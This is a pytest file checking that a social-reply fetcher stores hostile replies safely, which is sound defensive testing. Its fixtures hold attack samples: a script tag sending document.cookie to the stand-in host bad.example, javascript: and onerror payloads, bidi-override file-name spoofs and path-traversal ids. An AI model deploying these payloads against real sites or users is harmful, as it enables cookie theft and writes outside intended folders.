"""Hostile replies from the network end up as safe files: plain text, no escape from the folder."""

from __future__ import annotations

import os

from click.testing import CliRunner

from socialgit.channels.listening import Skipped, bluesky_item, mastodon_item
from socialgit.cli import cli
from socialgit.feedback_store import read
from tests.test_fetch import ENV, Calendar, cal, clock, later, server  # noqa: F401  (fixtures)

RLO = "\u202e"


def test_script_tags_javascript_links_and_bidi_overrides_become_plain_text(cal, server, clock):
    ours = cal.publish("winter-sale")
    troll = server.add_account("troll", display_name=f"Support{RLO}gnp.exe \n<b>Team</b>", domain="bad.example")
    script = server.post(troll, "", in_reply_to_id=ours["id"],
                         html='<p>hi<script>document.location="https://bad.example/?c="+document.cookie</script>'
                              ' there <a href="javascript:alert(1)">claim prize</a>'
                              f' <img src=x onerror=alert(1)>{RLO}txt.exe</p>')
    later(clock)

    report = cal.fetch()

    assert report.ok and report.channels[0].new == 1
    fields, body = read(cal.item("winter-sale", script))
    assert body == "hi there claim prize txt.exe\n"
    assert fields["author"] == {"name": "Supportgnp.exe <b>Team</b>", "handle": "@troll@bad.example",
                                "url": "https://bad.example/@troll"}
    raw = cal.item("winter-sale", script).read_text(encoding="utf-8")
    assert RLO not in raw and "<script" not in raw and "javascript:" not in raw and "document.cookie" not in raw


def test_a_100_kb_comment_is_cut_with_a_note(cal, server, clock):
    ours = cal.publish("winter-sale")
    huge = server.post(server.add_account("verbose"), "", in_reply_to_id=ours["id"],
                       html="<p>" + "blah " * 20_480 + "</p>")  # 100 KB
    later(clock)

    cal.fetch()

    path = cal.item("winter-sale", huge)
    _, body = read(path)
    assert body.startswith("blah blah") and body.rstrip().endswith("the whole text is at the item's url]")
    assert "102,399 characters" in body
    assert path.stat().st_size < 25_000


def test_ids_that_could_leave_the_folder_are_skipped_and_reported(cal, server, clock, tmp_path):
    ours = cal.publish("winter-sale")
    troll = server.add_account("troll")
    fine = server.post(troll, "an ordinary reply", in_reply_to_id=ours["id"])
    for bad in ("../../../escaped", "a/b", "a\\b", "..", "1\n2", "c:con"):
        server.post(troll, f"sneaky {bad!r}", in_reply_to_id=ours["id"], status_id=bad)
    later(clock)

    result = CliRunner().invoke(cli, ["fetch", "--root", str(cal.root), "--now", clock().isoformat()], env=ENV)

    assert result.exit_code == 0, result.output
    assert cal.files() == [f"winter-sale/mastodon-{fine['id']}.md"]
    assert "6 item(s) not stored" in result.output and "the status id cannot be a file name" in result.output
    everything = [os.path.join(folder, name) for folder, _, names in os.walk(tmp_path) for name in names]
    assert not any("escaped" in path or "sneaky" in path for path in everything)


def test_direct_messages_stay_out_of_git(cal, server, clock):
    ours = cal.publish("winter-sale")
    fan = server.add_account("fan")
    public = server.post(fan, "public question", in_reply_to_id=ours["id"])
    server.post(fan, "@socialgit my address is 12 Secret St", visibility="direct")
    later(clock)

    report = cal.fetch()

    assert cal.files() == [f"winter-sale/mastodon-{public['id']}.md"]
    assert any("direct message" in note for note in report.channels[0].skipped)


def test_parsers_refuse_what_is_not_an_item():
    assert isinstance(mastodon_item({"id": ""}), Skipped)
    assert isinstance(mastodon_item("not a status"), Skipped)
    assert isinstance(bluesky_item({"uri": "at://did:plc:x/app.bsky.feed.post/../../x"}), Skipped)
    assert isinstance(bluesky_item({"uri": "at://did:plc:x/app.bsky.feed.like/3k"}), Skipped)
    assert isinstance(bluesky_item({"uri": "https://bsky.app/x"}), Skipped)


def test_a_bluesky_view_cannot_claim_another_author_or_a_future_time():
    item = bluesky_item({
        "uri": "at://did:plc:troll/app.bsky.feed.post/3kabc", "cid": "bafyreia",
        "author": {"did": "did:plc:brand", "handle": "brand.example", "displayName": "Official Brand"},
        "record": {"text": f"trust me{RLO}", "createdAt": "2099-01-01T00:00:00Z", "langs": ["en; x"]},
        "indexedAt": "2026-11-16T10:00:00Z"})
    assert item.author.id == "did:plc:troll" and item.author.name == "" and item.author.handle == ""
    assert item.author.url == "https://bsky.app/profile/did:plc:troll"
    assert item.text == "trust me" and item.lang is None
    assert item.created_at.isoformat() == "2026-11-16T10:00:00+00:00"
